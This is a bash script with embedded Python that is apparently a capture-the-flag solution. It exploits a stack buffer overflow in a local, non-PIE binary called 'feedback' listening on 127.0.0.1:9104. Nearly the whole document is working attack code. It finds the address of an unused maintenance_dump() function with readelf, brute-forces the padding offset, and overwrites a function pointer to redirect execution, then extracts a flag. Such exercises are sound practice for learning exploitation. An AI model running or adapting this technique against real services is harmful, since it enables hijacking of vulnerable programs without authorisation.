#!/bin/bash
# main reads 96 bytes into a 64-byte buffer and then calls a function pointer stored right after it.
# The binary is not PIE, so the unused maintenance_dump() has a fixed address: overwrite the pointer.
set -e
addr=$(readelf -sW feedback | awk '$8 == "maintenance_dump" {print $2}')
python3 - "$addr" <<'PY'
import re, socket, struct, sys
target = int(sys.argv[1], 16)
for off in range(8, 96 - 7, 8):          # offset of the pointer; 64 for this build
    s = socket.create_connection(("127.0.0.1", 9104)); s.settimeout(10)
    buf = b""
    while b"characters):" not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    s.sendall(b"A" * off + struct.pack("<Q", target))
    out = b""
    try:
        while True:
            d = s.recv(4096)
            if not d: break
            out += d
    except socket.timeout:
        pass
    m = re.search(rb"flag\{[^}]+\}", out)
    if m:
        print(m.group(0).decode()); break
PY
